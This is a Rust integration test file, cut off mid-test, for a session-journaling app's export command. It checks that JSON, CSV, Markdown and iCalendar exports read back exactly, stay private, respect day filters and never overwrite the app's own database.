//! `export --format json|csv|md|ics` on the built binary: each format as a
//! person gets it, read back by independent readers (the `csv` crate, the
//! `ical` crate), with awkward words, owner-only files and day filters.

use std::collections::{BTreeMap, BTreeSet};
use std::io::BufReader;

use afterglow::care::{CRISIS, NOT_MEDICAL_ADVICE};

use super::*;
use crate::disk::SmallDisk;

/// Words that trip up careless writers: a comma, a semicolon, a quote, a
/// backslash, a line break, emoji (one of them a ZWJ sequence), CJK.
const AWKWARD: &str = "Calm, then a wave 🌊; \"big\" one\\small\nSecond line: 海 👩‍👩‍👧 done";

/// A history made through the command line: a course of two sessions,
/// the second (just now) with an awkward note, an intention and a
/// reflection; a journal entry, a therapy visit, a habit tick and a
/// planned session ahead. Returns the two sessions' instants.
fn history(env: &Env) -> [DateTime<Utc>; 2] {
    let first = days_ago(3);
    env.ok(&["session", "log", "--at", &rfc(first), "--dose-mg", "35"]);
    env.ok(&[
        "therapy",
        "log",
        "--at",
        &rfc(first + hours(30)),
        "--note",
        AWKWARD,
    ]);
    // An intention waits for the next session logged after it.
    env.ok(&["intention", "set", "notice, gently"]);
    env.ok(&["session", "log", "--kind", "lozenge", "--note", AWKWARD]);
    env.ok(&["intention", "reflect", "it was kind"]);
    env.ok(&["journal", "add", "--mood", "7", AWKWARD]);
    env.ok(&[
        "habit",
        "tick",
        "sleep",
        "--date",
        "yesterday",
        "--amount",
        "8",
    ]);
    env.ok(&["session", "plan", "--at", &rfc(Utc::now() + days(5))]);
    let export = env.json(&["export"]);
    let second = export["sessions"][1]["at"].as_str().unwrap();
    let second = DateTime::parse_from_rfc3339(second)
        .unwrap()
        .with_timezone(&Utc);
    [first, second]
}

/// RFC 5545 TEXT unescaping, written here rather than borrowed from the
/// code under test.
fn unescape(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        match (c, c == '\\') {
            (_, true) => match chars.next() {
                Some('n' | 'N') => out.push('\n'),
                Some(other) => out.push(other),
                None => panic!("a lone backslash at the end of {s:?}"),
            },
            (c, false) => out.push(c),
        }
    }
    out
}

/// Every physical line is CRLF-terminated, holds no other CR or LF, and
/// is at most 75 octets.
fn assert_rfc5545_lines(text: &str) {
    assert!(text.ends_with("\r\n"));
    for line in text.split_terminator("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
        assert!(!line.contains(['\r', '\n']), "bare line break in {line:?}");
    }
}

type Events = Vec<BTreeMap<String, String>>;

/// The events as the `ical` crate reads them: property name (with its
/// parameters) to raw value.
fn parse_ics(text: &str) -> Events {
    let mut calendars = ical::IcalParser::new(BufReader::new(text.as_bytes()));
    let cal = calendars.next().expect("one calendar").expect("it parses");
    assert!(calendars.next().is_none());
    let props: BTreeMap<String, String> = cal
        .properties
        .iter()
        .map(|p| (p.name.clone(), p.value.clone().unwrap_or_default()))
        .collect();
    assert_eq!(props["VERSION"], "2.0");
    assert!(props["PRODID"].contains("afterglow"));
    cal.events
        .iter()
        .map(|e| {
            e.properties
                .iter()
                .map(|p| {
                    let params = p.params.as_ref().map_or(String::new(), |ps| {
                        ps.iter()
                            .map(|(k, v)| format!(";{k}={}", v.join(",")))
                            .collect()
                    });
                    (
                        format!("{}{params}", p.name),
                        p.value.clone().unwrap_or_default(),
                    )
                })
                .collect()
        })
        .collect()
}

#[test]
fn ics_loads_in_an_independent_parser_with_stable_uids() {
    let env = Env::in_zone("Europe/Berlin");
    let [_, second] = history(&env);
    let text = env.ok(&["export", "--format", "ics"]);
    assert_rfc5545_lines(&text);
    let events = parse_ics(&text);
    // Five events for each of the two sessions and the planned one.
    assert_eq!(events.len(), 15, "{text}");
    for e in &events {
        for key in [
            "UID",
            "DTSTAMP",
            "SUMMARY",
            "DESCRIPTION",
            "STATUS",
            "TRANSP",
        ] {
            assert!(e.contains_key(key), "{key} missing in {e:?}");
        }
        assert!(e["UID"].ends_with("@afterglow"));
        assert!(
            e.get("DTSTART").is_some_and(|v| v.ends_with('Z'))
                || e.contains_key("DTSTART;VALUE=DATE"),
            "{e:?}"
        );
    }
    let uids: BTreeSet<&str> = events.iter().map(|e| e["UID"].as_str()).collect();
    assert_eq!(uids.len(), events.len(), "UIDs must be unique");

    // The session: its start in UTC, its note word for word.
    let start = second.format("%Y%m%dT%H%M%SZ").to_string();
    let starting = |suffix: &str| {
        events
            .iter()
            .find(|e| e["UID"].ends_with(suffix) && e.get("DTSTART") == Some(&start))
            .unwrap_or_else(|| panic!("no {suffix} at {start}"))
    };
    let session = starting("-session@afterglow");
    assert_eq!(session["SUMMARY"], "Session: lozenge");
    let description = unescape(&session["DESCRIPTION"]);
    assert!(
        description.contains(&format!("Note: {AWKWARD}")),
        "{description}"
    );
    assert!(
        description.contains("Intention: notice, gently"),
        "{description}"
    );

    // The main window closes 72 hours after the start by default.
    let window = starting("-window@afterglow");
    assert_eq!(
        window["DTEND"],
        (second + hours(72)).format("%Y%m%dT%H%M%SZ").to_string()
    );
    assert_eq!(window["TRANSP"], "TRANSPARENT");
    let walks: Vec<&String> = events
        .iter()
        .filter_map(|e| e.get("DTSTART;VALUE=DATE"))
        .collect();
    assert_eq!(walks.len(), 3, "one next-day walk per session");
    let planned = events.iter().filter(|e| e["STATUS"] == "TENTATIVE").count();
    assert_eq!(planned, 5);

    // Another export, a second later and from a copy of the data in a new
    // database: the same UIDs, so a calendar updates instead of copying.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let again = parse_ics(&env.ok(&["export", "--format", "ics"]));
    let again_uids: BTreeSet<&str> = again.iter().map(|e| e["UID"].as_str()).collect();
    assert_eq!(uids, again_uids);
    assert_ne!(events[0]["DTSTAMP"], again[0]["DTSTAMP"]);

    // --since leaves out the first session's events, not the second's.
    let berlin = second.with_timezone(&chrono_tz::Europe::Berlin);
    let day = berlin.format("%Y-%m-%d").to_string();
    let later = parse_ics(&env.ok(&["export", "--format", "ics", "--since", &day]));
    assert_eq!(later.len(), 10);
    assert!(later.iter().all(|e| uids.contains(e["UID"].as_str())));
}

#[test]
fn ics_of_a_year_of_demo_history_is_well_formed() {
    let env = Env::in_zone("America/New_York");
    env.ok(&["demo", "--years", "1"]);
    let path = env.dir.path().join("calendar.ics");
    let out = env.ok(&["export", "--format", "ics", "--out", path.to_str().unwrap()]);
    assert!(
        out.contains("calendar events for") && out.contains("updates these"),
        "{out}"
    );
    assert_private_file(&path);
    let text = fs::read_to_string(&path).unwrap();
    assert_rfc5545_lines(&text);
    let events = parse_ics(&text);
    assert!(events.len() > 50, "{}", events.len());
    let uids: BTreeSet<&str> = events.iter().map(|e| e["UID"].as_str()).collect();
    assert_eq!(uids.len(), events.len());
    // Every description and summary unescapes cleanly: no bare commas or
    // semicolons, no dangling backslash.
    for e in &events {
        for key in ["SUMMARY", "DESCRIPTION"] {
            let raw = &e[key];
            let mut escaped = false;
            for c in raw.chars() {
                if escaped {
                    assert!("\\;,nN".contains(c), "bad escape \\{c} in {raw:?}");
                    escaped = false;
                } else if c == '\\' {
                    escaped = true;
                } else {
                    assert!(c != ';' && c != ',', "unescaped {c:?} in {raw:?}");
                }
            }
            assert!(!escaped, "{raw:?}");
        }
    }
}

fn assert_private_file(path: &Path) {
    assert!(path.is_file());
    #[cfg(unix)]
    assert_eq!(mode(path), 0o600, "{}", path.display());
}

const CSV_FILES: [&str; 10] = [
    "checkins.csv",
    "earlier_reflections.csv",
    "habit_ticks.csv",
    "habits.csv",
    "intentions.csv",
    "journal.csv",
    "questionnaire_results.csv",
    "sessions.csv",
    "therapy.csv",
    "treatment.csv",
];

fn read_csv(path: &Path) -> Vec<BTreeMap<String, String>> {
    let bytes = fs::read(path).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    // RFC 4180: CRLF after every record, the last one too.
    assert!(text.ends_with("\r\n"), "{}", path.display());
    let mut r = ::csv::Reader::from_reader(text.as_bytes());
    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    r.records()
        .map(|rec| {
            let rec = rec.unwrap();
            head.iter()
                .cloned()
                .zip(rec.iter().map(str::to_string))
                .collect()
        })
        .collect()
}

fn intentions_session(dir: &Path) -> String {
    read_csv(&dir.join("intentions.csv"))[0]["session_id"].clone()
}

fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Every file in `dir` with its bytes, by name.
fn contents(dir: &Path) -> Vec<(String, Vec<u8>)> {
    listing(dir)
        .into_iter()
        .map(|n| {
            let bytes = fs::read(dir.join(&n)).unwrap();
            (n, bytes)
        })
        .collect()
}

#[test]
fn csv_is_a_private_folder_of_files_that_read_back_exactly() {
    let env = Env::new();
    let [first, second] = history(&env);
    let dir = env.dir.path().join("csv");
    let out = env.ok(&["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
    assert!(out.starts_with("Wrote 10 files to "), "{out}");
    assert!(
        out.contains("sessions.csv") && out.contains("3 records"),
        "{out}"
    );
    assert_eq!(listing(&dir), CSV_FILES);
    #[cfg(unix)]
    assert_eq!(mode(&dir), 0o700);
    for name in CSV_FILES {
        assert_private_file(&dir.join(name));
    }
    // Nothing left beside it.
    assert_eq!(
        listing(env.dir.path())
            .iter()
            .filter(|n| n.contains("csv"))
            .count(),
        1
    );

    let sessions = read_csv(&dir.join("sessions.csv"));
    assert_eq!(sessions.len(), 3);
    assert_eq!(sessions[0]["at_utc"], rfc(first));
    assert_eq!(sessions[0]["dose_mg"], "35");
    assert_eq!(sessions[1]["at_utc"], rfc(second));
    assert_eq!(sessions[1]["note"], AWKWARD);
    assert_eq!(sessions[1]["kind"], "lozenge");
    assert_eq!(sessions[2]["status"], "planned");
    let journal = read_csv(&dir.join("journal.csv"));
    assert_eq!(journal[0]["body"], AWKWARD);
    assert_eq!(journal[0]["mood"], "7");
    // Written in the window of the second session.
    assert_eq!(journal[0]["session_id"], sessions[1]["id"]);
    assert_eq!(intentions_session(&dir), sessions[1]["id"]);
    let therapy = read_csv(&dir.join("therapy.csv"));
    assert_eq!(therapy[0]["note"], AWKWARD);
    let intentions = read_csv(&dir.join("intentions.csv"));
    assert_eq!(intentions.len(), 1);
    assert_eq!(intentions[0]["text"], "notice, gently");
    assert_eq!(intentions[0]["reflection"], "it was kind");
    let ticks = read_csv(&dir.join("habit_ticks.csv"));
    assert_eq!(ticks.len(), 1);
    assert_eq!(
        (ticks[0]["habit"].as_str(), ticks[0]["met"].as_str()),
        ("Sleep", "true")
    );
    let habits = read_csv(&dir.join("habits.csv"));
    assert!(
        habits
            .iter()
            .any(|h| h["name"] == "Sleep" && h["target"] == "7")
    );
}

#[test]
fn csv_folders_are_never_clobbered_or_left_half_written() {
    let env = Env::new();
    history(&env);
    let dir = env.dir.path().join("out");
    let arg = dir.to_str().unwrap();

    // No folder given: said kindly, nothing written.
    let err = env.fails(&["export", "--format", "csv"]);
    assert!(
        err.contains("needs a folder") && err.contains("--out"),
        "{err}"
    );

    // An empty folder is fine (and made private).
    fs::create_dir(&dir).unwrap();
    env.ok(&["export", "--format", "csv", "--out", arg]);
    #[cfg(unix)]
    assert_eq!(mode(&dir), 0o700);

    // A second export into it needs --force, and then replaces it whole.
    let err = env.fails(&["export", "--format", "csv", "--out", arg]);
    assert!(
        err.contains("already holds files") && err.contains("--force"),
        "{err}"
    );
    env.ok(&["journal", "add", "one more"]);
    env.ok(&["export", "--format", "csv", "--out", arg, "--force"]);
    assert_eq!(read_csv(&dir.join("journal.csv")).len(), 2);
    assert_eq!(listing(&dir), CSV_FILES);

    // A folder with someone else's file is refused even with --force,
    // and left exactly as it was.
    let mine = env.dir.path().join("mine");
    fs::create_dir(&mine).unwrap();
    fs::write(mine.join("notes.txt"), "my notes").unwrap();
    fs::write(mine.join("journal.csv"), "not afterglow's").unwrap();
    let err = env.fails(&[
        "export",
        "--format",
        "csv",
        "--out",
        mine.to_str().unwrap(),
        "--force",
    ]);
    assert!(
        err.contains("notes.txt") && err.contains("not from an afterglow"),
        "{err}"
    );
    assert_eq!(listing(&mine), ["journal.csv", "notes.txt"]);
    assert_eq!(
        fs::read_to_string(mine.join("journal.csv")).unwrap(),
        "not afterglow's"
    );

    // A file where the folder should go.
    let file = env.dir.path().join("file");
    fs::write(&file, "x").unwrap();
    let err = env.fails(&["export", "--format", "csv", "--out", file.to_str().unwrap()]);
    assert!(err.contains("is not a folder"), "{err}");
    assert_eq!(fs::read_to_string(&file).unwrap(), "x");

    // A parent folder that does not exist: an error, and no scratch left.
    let deep = env.dir.path().join("missing/out");
    let err = env.fails(&["export", "--format", "csv", "--out", deep.to_str().unwrap()]);
    assert!(err.contains("missing/out"), "{err}");
    let hidden: Vec<String> = listing(env.dir.path())
        .into_iter()
        .filter(|n| n.contains("afterglow-"))
        .collect();
    assert!(hidden.is_empty(), "{hidden:?}");
}

#[test]
fn a_full_disk_half_way_through_a_csv_folder_leaves_the_old_one_whole() {
    let Some(disk) = SmallDisk::mount("128k") else {
        return;
    };
    let small = Env::new();
    history(&small);
    let dir = disk.path().join("csv");
    let arg = dir.to_str().unwrap();
    small.ok(&["export", "--format", "csv", "--out", arg]);
    let before = contents(&dir);

    // A year of history does not fit: its journal alone is larger than
    // the disk, so the write fails after the first files are in place.
    let big = Env::new();
    big.ok(&["demo", "--years", "1"]);
    let out = big.run(&["export", "--format", "csv", "--out", arg, "--force"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("could not write") && stderr.contains(arg),
        "{stderr}"
    );
    assert!(stderr.contains("the disk is full"), "{stderr}");

    // The earlier export is still there, byte for byte, and nothing else.
    assert_eq!(listing(disk.path()), ["csv"]);
    let after = contents(&dir);
    assert_eq!(before, after);
}

#[test]
fn md_is_a_report_with_every_section() {
    let env = Env::in_zone("Asia/Tokyo");
    let [_, second] = history(&env);
    let md = env.ok(&["export", "--format", "md"]);
    for want in [
        "# afterglow: integration report",
        "not medical advice",
        "## Summary",
        "## Mood over time",
        "## Habits week by week",
        "## Sessions, course by course",
        "### Course 1: 2 sessions",
        // A third is planned inside the week: the person's own total.
        "#### Session 1 of 3",
        "**Intention**",
        "> notice, gently",
        "**Reflection**",
        "**Integration plan**",
        "- Therapy or an integration call — done",
        "**Journal entries written in this session's window**",
        "## Planned sessions",
        "## Other journal entries",
        "## Therapy and integration visits",
        "```text",
        "| Week of ",
    ] {
        assert!(md.contains(want), "{want}\n---\n{md}");
    }
    // Local time, here Tokyo's.
    let tokyo = second + hours(9);
    assert!(
        md.contains(&tokyo.format("%a %-d %b %Y %H:%M").to_string()),
        "{md}"
    );
    // The awkward note is quoted line by line, its words intact.
    assert!(md.contains("> Second line: 海 👩‍👩‍👧 done"), "{md}");

    let path = env.dir.path().join("report.md");
    let out = env.ok(&["export", "--format", "md", "--out", path.to_str().unwrap()]);
    assert!(
        out.starts_with("Wrote a report of 2 sessions and 1 journal entry to"),
        "{out}"
    );
    assert_private_file(&path);
    let err = env.fails(&["export", "--format", "md", "--out", path.to_str().unwrap()]);
    assert!(err.contains("already exists"), "{err}");
    env.ok(&[
        "export",
        "--format",
        "md",
        "--out",
        path.to_str().unwrap(),
        "--force",
    ]);
    assert_private_file(&path);
}

#[test]
fn days_filter_every_format_and_are_checked() {
    let env = Env::new();
    let [first, second] = history(&env);
    let day = |t: DateTime<Utc>| t.format("%Y-%m-%d").to_string();
    let only_first = ["--since", &day(first), "--until", &day(first)];

    let json: Value =
        serde_json::from_str(&env.ok(&[&["export"][..], &only_first].concat())).unwrap();
    assert_eq!(json["format"], "afterglow");
    assert_eq!(json["version"], 1);
    assert_eq!(json["sessions"].as_array().unwrap().len(), 1);
    assert_eq!(json["journal"].as_array().unwrap().len(), 0);
    // The intention goes with the second session, outside these days.
    assert!(json["intentions"].as_array().unwrap().is_empty());

    let md = env.ok(&[&["export", "--format", "md"][..], &only_first].concat());
    assert!(md.contains("#### Session 1 of 3"));
    assert!(!md.contains("#### Session 2 of 3"));
    // Prose is wrapped at 80 columns; the sentence is read across lines.
    assert!(
        md.replace('\n', " ")
            .contains("1 session is outside this report's dates."),
        "{md}"
    );

    let ics = env.ok(&[&["export", "--format", "ics"][..], &only_first].concat());
    assert_eq!(parse_ics(&ics).len(), 5);

    let dir = env.dir.path().join("csv");
    let args = [
        &["export", "--format", "csv", "--out", dir.to_str().unwrap()][..],
        &only_first,
    ]
    .concat();
    env.ok(&args);
    assert_eq!(read_csv(&dir.join("sessions.csv")).len(), 1);
    assert!(read_csv(&dir.join("journal.csv")).is_empty());

    // Days in the user's words work too.
    let recent = env.json(&["export", "--since", "yesterday"]);
    // The session just now and the plan ahead.
    assert_eq!(recent["sessions"].as_array().unwrap().len(), 2);

    let err = env.fails(&["export", "--since", &day(second), "--until", &day(first)]);
    assert!(
        err.contains("--until") && err.contains("before --since"),
        "{err}"
    );
    let err = env.fails(&["export", "--format", "md", "--since", "last tuesday"]);
    assert!(
        err.contains("--since") && err.contains("YYYY-MM-DD"),
        "{err}"
    );
}

#[test]
fn json_without_days_is_the_whole_database_as_before() {
    let env = Env::new();
    history(&env);
    let plain: Value = env.json(&["export"]);
    let named: Value = env.json(&["export", "--format", "json"]);
    let mut a = plain.clone();
    let mut b = named.clone();
    // Only the moment of export may differ between two runs.
    a["exported_at"] = Value::Null;
    b["exported_at"] = Value::Null;
    assert_eq!(a, b);
    assert_eq!(plain["format"], "afterglow");
    assert_eq!(plain["version"], 1);
    for key in [
        "sessions",
        "intentions",
        "journal",
        "habits",
        "ticks",
        "therapy",
    ] {
        assert!(plain[key].is_array(), "{key}");
    }
    assert_eq!(plain["sessions"][1]["note"], AWKWARD);
    // The top of the file names the format and its version first.
    let text = env.ok(&["export"]);
    assert!(
        text.starts_with("{\n  \"format\": \"afterglow\",\n  \"version\": 1,"),
        "{text}"
    );
}

#[test]
fn an_empty_database_exports_calmly_in_every_format() {
    let env = Env::new();
    let md = env.ok(&["export", "--format", "md"]);
    assert!(md.contains("No sessions in this period."), "{md}");
    let ics = env.ok(&["export", "--format", "ics"]);
    assert!(parse_ics(&ics).is_empty());
    let path = env.dir.path().join("empty.ics");
    let out = env.ok(&["export", "--format", "ics", "--out", path.to_str().unwrap()]);
    assert!(out.contains("no sessions in that period"), "{out}");
    let dir = env.dir.path().join("csv");
    env.ok(&["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
    assert!(read_csv(&dir.join("sessions.csv")).is_empty());
}

#[test]
fn a_demo_year_reads_at_80_columns_and_claims_nothing_untracked() {
    use unicode_width::UnicodeWidthStr;
    let env = Env::new();
    env.ok(&["demo", "--years", "1"]);
    let md = env.ok(&["export", "--format", "md"]);
    // The demo's words have no word longer than a line, so everything
    // fits a terminal, tables included.
    assert!(md.lines().count() > 1000);
    for line in md.lines() {
        assert!(line.width() <= 80, "{} columns: {line}", line.width());
    }
    // Nobody is asked whether they went gently, so it is never "done".
    assert!(!md.contains("[x] Go gently"), "{md}");
    assert!(md.contains("- Go gently: "), "{md}");
    // Boosters are not counted as courses in the summary.
    let summary = &md[md.find("## Summary").unwrap()..md.find("## Mood").unwrap()];
    assert!(
        summary.contains(" in 1 course and ") && summary.contains(" boosters"),
        "{summary}"
    );
    assert_singular_after_one(summary);
    assert!(!md.contains("would continue the course"), "{md}");
}

/// A session in `zone` at the local `when`, alone in a new database.
fn one_session_in(zone: &'static str, when: &str) -> (Env, DateTime<Utc>) {
    let env = Env::in_zone(zone);
    env.ok(&["session", "log", "--at", when]);
    let export = env.json(&["export"]);
    let at = DateTime::parse_from_rfc3339(export["sessions"][0]["at"].as_str().unwrap())
        .unwrap()
        .with_timezone(&Utc);
    (env, at)
}

#[test]
fn windows_across_a_daylight_saving_change_are_exact_in_every_format() {
    let stamp = |t: DateTime<Utc>| t.format("%Y%m%dT%H%M%SZ").to_string();
    // Santiago springs forward at midnight (Sat 6 Sep 2025 24:00 is Sun
    // 01:00), Berlin falls back (Sun 26 Oct 2025 03:00 is 02:00): the
    // window is 72 real hours, so its local end moves by an hour.
    for (zone, when, utc, walk, therapy) in [
        (
            "America/Santiago",
            "2025-09-06 20:00",
            "2025-09-07T00:00:00Z",
            "20250907",
            "Sun 7 Sep 21:00 to Tue 9 Sep 21:00",
        ),
        (
            "Europe/Berlin",
            "2025-10-25 23:00",
            "2025-10-25T21:00:00Z",
            "20251026",
            "Sun 26 Oct 22:00 to Tue 28 Oct 22:00",
        ),
    ] {
        let (env, at) = one_session_in(zone, when);
        assert_eq!(rfc(at), utc, "{zone}");

        let ics = env.ok(&["export", "--format", "ics"]);
        assert_rfc5545_lines(&ics);
        let events = parse_ics(&ics);
        let event = |suffix: &str| {
            events
                .iter()
                .find(|e| e["UID"].ends_with(suffix))
                .unwrap_or_else(|| panic!("{zone}: no {suffix} in {ics}"))
        };
        let session = event("-session@afterglow");
        assert_eq!(session["DTSTART"], stamp(at));
        assert_eq!(session["DTEND"], stamp(at + minutes(90)));
        let window = event("-window@afterglow");
        assert_eq!(window["DTEND"], stamp(at + hours(72)), "{zone}");
        let exercise = event("-exercise@afterglow");
        // All day, on the next local day; the end is exclusive.
        assert_eq!(exercise["DTSTART;VALUE=DATE"], walk, "{zone}");
        let next: u32 = walk.parse().unwrap();
        assert_eq!(exercise["DTEND;VALUE=DATE"], (next + 1).to_string());

        let md = env.ok(&["export", "--format", "md"]);
        let plain = md.replace("\n  ", " ");
        assert!(
            plain.contains(&format!(
                "- Therapy or an integration call — a suggestion for {therapy}\n"
            )),
            "{zone}: {md}"
        );

        let dir = env.dir.path().join("csv");
        env.ok(&["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
        let rows = read_csv(&dir.join("sessions.csv"));
        assert_eq!(rows[0]["at_utc"], utc);
        assert_eq!(rows[0]["at_local"], format!("{when}:00"));
    }
}

/// A report's quoted lines joined again, so that a sentence wrapped at 80
/// columns inside a block quote can be looked for whole.
fn unwrapped_quotes(md: &str) -> String {
    md.replace("\n> ", " ")
}

/// The DESCRIPTION of every event, unfolded by the `ical` crate and
/// unescaped here.
fn descriptions(ics: &str) -> Vec<String> {
    parse_ics(ics)
        .iter()
        .map(|e| unescape(&e["DESCRIPTION"]))
        .collect()
}

#[test]
fn a_decade_of_demo_history_is_reported_without_a_word_of_failure() {
    let env = Env::in_zone("Europe/Berlin");
    env.ok(&["demo", "--years", "10"]);
    let md = env.ok(&["export", "--format", "md"]);
    for word in ["missed", "Missed", "✗", "[ ]"] {
        assert!(!md.contains(word), "{word} in the report");
    }
    // The summary counts what was done and what is still ahead, never
    // what was not done.
    let summary = &md[md.find("## Summary").unwrap()..md.find("## Mood").unwrap()];
    assert!(
        summary.contains("- Integration plan: ") && summary.contains(" steps done"),
        "{summary}"
    );
    // Going gently is guidance: never reported as done.
    assert!(!md.contains("Go gently: avoid confrontations, limit doomscrolling — done"));
    let ics = env.ok(&["export", "--format", "ics"]);
    assert_rfc5545_lines(&ics);
    let all = descriptions(&ics);
    assert!(all.len() > 500, "{}", all.len());
    assert!(all.iter().all(|d| !d.contains("missed")));
}

#[test]
fn the_report_and_every_event_say_it_is_no_medical_advice_and_where_help_is() {
    let env = Env::in_zone("America/New_York");
    history(&env);
    let md = env.ok(&["export", "--format", "md"]);
    let top = unwrapped_quotes(&md[..md.find("## Summary").unwrap()]);
    assert!(top.contains(NOT_MEDICAL_ADVICE), "{md}");
    assert!(top.contains(CRISIS), "{md}");
    // In the block quote at the top, the two apart.
    assert!(md.contains("\n\n> afterglow is a personal journal"), "{md}");
    assert!(md.contains("\n>\n> If you are in danger now"), "{md}");

    let ics = env.ok(&["export", "--format", "ics"]);
    assert_rfc5545_lines(&ics);
    let all = descriptions(&ics);
    assert_eq!(all.len(), 15);
    for d in &all {
        assert!(
            d.ends_with(&format!("\n\n{NOT_MEDICAL_ADVICE}\n{CRISIS}")),
            "{d}"
        );
    }
    // The window as the sources word it: typical hours, and the week or
    // two only suggested.
    assert!(
        all.iter()
            .any(|d| d.contains("typically lasts 24 to 72 hours")
                && d.contains("Some research suggests")),
        "{all:?}"
    );
}

#[test]
fn a_course_and_its_boosters_are_reported_apart() {
    let env = Env::new();
    // A course of six over eleven days, then boosters some weeks apart.
    for n in [80, 78, 76, 73, 71, 69, 45, 20] {
        env.ok(&["session", "log", "--at", &rfc(days_ago(n))]);
    }
    let md = env.ok(&["export", "--format", "md"]);
    let day = |n: i64| days_ago(n).format("%a %-d %b %Y").to_string();
    for want in [
        "- 8 sessions: 6 in 1 course and 2 boosters\n".to_string(),
        format!("### Course 1: 6 sessions, {} to {}\n", day(80), day(69)),
        format!("#### Session 3 of 6: {}", day(76)),
        format!("### A booster session, {}\n", day(45)),
        format!("### A booster session, {}\n", day(20)),
        format!("#### Booster session: {}", day(20)),
    ] {
        assert!(md.contains(&want), "{want}\n---\n{md}");
    }
    let plain = md.replace('\n', " ");
    assert!(
        plain.contains(&format!(
            "Finished on {}. The integration guide suggests keeping the practices going \
             for at least 4-8 weeks after a course; many keep them for good. Alcohol is \
             best avoided during active treatment: the course and the weeks of integration \
             after it.",
            day(69)
        )),
        "{md}"
    );
    // Said once, of the course; nothing of the sort for the boosters.
    assert_eq!(plain.matches("4-8 weeks").count(), 1, "{md}");
    assert_eq!(plain.matches("Alcohol").count(), 1, "{md}");
    let summary = &md[md.find("## Summary").unwrap()..md.find("## Mood").unwrap()];
    assert!(!summary.contains("courses"), "{summary}");
    assert_singular_after_one(summary);
}

/// No "1 sessions", "1 boosters" and the like: a count of exactly one is
/// followed by a singular word.
fn assert_singular_after_one(text: &str) {
    let words: Vec<&str> = text.split([' ', '\n', ':', ';', ',']).collect();
    for pair in words.windows(2) {
        if pair[0] == "1" {
            let next = pair[1];
            assert!(
                ![
                    "sessions",
                    "courses",
                    "boosters",
                    "steps",
                    "visits",
                    "entries",
                    "intentions"
                ]
                .contains(&next),
                "1 {next} in {text}"
            );
        }
    }
}

#[test]
fn with_therapy_off_no_therapy_step_or_event_appears() {
    let env = Env::new();
    let config = env.dir.path().join("off.toml");
    fs::write(&config, "[plan]\ntherapy = \"off\"\n").unwrap();
    let config = config.to_str().unwrap();
    history(&env);
    let md = env.ok(&["--config", config, "export", "--format", "md"]);
    assert!(md.contains("**Integration plan**"), "{md}");
    assert!(!md.contains("Therapy or an integration call"), "{md}");
    let ics = env.ok(&["--config", config, "export", "--format", "ics"]);
    let events = parse_ics(&ics);
    // Four events for each of the two sessions and the planned one.
    assert_eq!(events.len(), 12, "{ics}");
    assert!(events.iter().all(|e| !e["UID"].contains("-therapy@")));

    // Weekly: the event spans the week after the session and says so.
    let weekly = env.dir.path().join("weekly.toml");
    fs::write(&weekly, "[plan]\ntherapy = \"weekly\"\n").unwrap();
    let ics = env.ok(&[
        "--config",
        weekly.to_str().unwrap(),
        "export",
        "--format",
        "ics",
    ]);
    let events = parse_ics(&ics);
    let therapy: Vec<&BTreeMap<String, String>> = events
        .iter()
        .filter(|e| e["UID"].contains("-therapy@"))
        .collect();
    assert_eq!(therapy.len(), 3);
    for e in therapy {
        let d = unescape(&e["DESCRIPTION"]);
        assert!(d.contains("in the week after the session."), "{d}");
        assert!(!d.contains("hours"), "{d}");
    }
}

/// Every way of naming the database's own files: the file itself, through
/// `..`, a symbolic link, a dangling link to its log, a hard link, and the
/// `-wal`, `-shm` and `-journal` SQLite keeps beside it.
#[cfg(unix)]
fn names_of_the_database(env: &Env) -> Vec<(PathBuf, &'static str)> {
    let dir = env.dir.path();
    fs::create_dir_all(dir.join("sub")).unwrap();
    let link = dir.join("report.md");
    std::os::unix::fs::symlink(&env.db, &link).unwrap();
    let wal_link = dir.join("log.md");
    std::os::unix::fs::symlink("afterglow.db-wal", &wal_link).unwrap();
    let hard = dir.join("hard.db");
    fs::hard_link(&env.db, &hard).unwrap();
    let with_suffix = |s: &str| PathBuf::from(format!("{}{s}", env.db.display()));
    vec![
        (env.db.clone(), "the database itself"),
        (dir.join("sub/../afterglow.db"), "the database itself"),
        (link, "the database itself"),
        (hard, "the database itself"),
        (wal_link, "the database's -wal file"),
        (with_suffix("-wal"), "the database's -wal file"),
        (with_suffix("-shm"), "the database's -shm file"),
        (with_suffix("-journal"), "the database's -journal file"),
    ]
}

#[cfg(unix)]
#[test]
fn export_and_backup_never_write_over_the_database_or_its_companions() {
    let env = Env::new();
    history(&env);
    // Everything but the moment of the export itself.
    let records = |env: &Env| {
        let mut export = env.json(&["export"]);
        export["exported_at"].take();
        export
    };
    let before = records(&env);
    let bytes = fs::read(&env.db).unwrap();
    for (out, what) in names_of_the_database(&env) {
        let out = out.to_str().unwrap();
        for format in ["json", "md", "ics", "csv"] {
            for force in [false, true] {
                let mut args = vec!["export", "--format", format, "--out", out];
                if force {
                    args.push("--force");
                }
                let err = env.fails(&args);
                assert!(
                    err.contains(&format!("{out} is {what}"))
                        && err.contains("nothing was changed"),
                    "{args:?}: {err}"
                );
            }
        }
        let err = env.fails(&["backup", "--force", out]);
        assert!(
            err.contains(&format!("{out} is {what}")),
            "backup {out}: {err}"
        );
    }
    assert_eq!(fs::read(&env.db).unwrap(), bytes);
    assert_eq!(records(&env), before);
    // A reader of a WAL database may leave an empty -wal (see
    // docs/data.md); nothing may be written into it.
    for suffix in ["-wal", "-journal"] {
        let beside = PathBuf::from(format!("{}{suffix}", env.db.display()));
        let written = fs::metadata(&beside).is_ok_and(|m| m.len() > 0);
        assert!(!written, "{} was written", beside.display());
    }
    assert!(!PathBuf::from(format!("{}-journal", env.db.display())).exists());

    // Before the first record there is no file yet, and its name is still
    // refused: the report would sit where the database is to be made.
    let fresh = Env::new();
    let err = fresh.fails(&[
        "export",
        "--format",
        "md",
        "--out",
        fresh.db.to_str().unwrap(),
    ]);
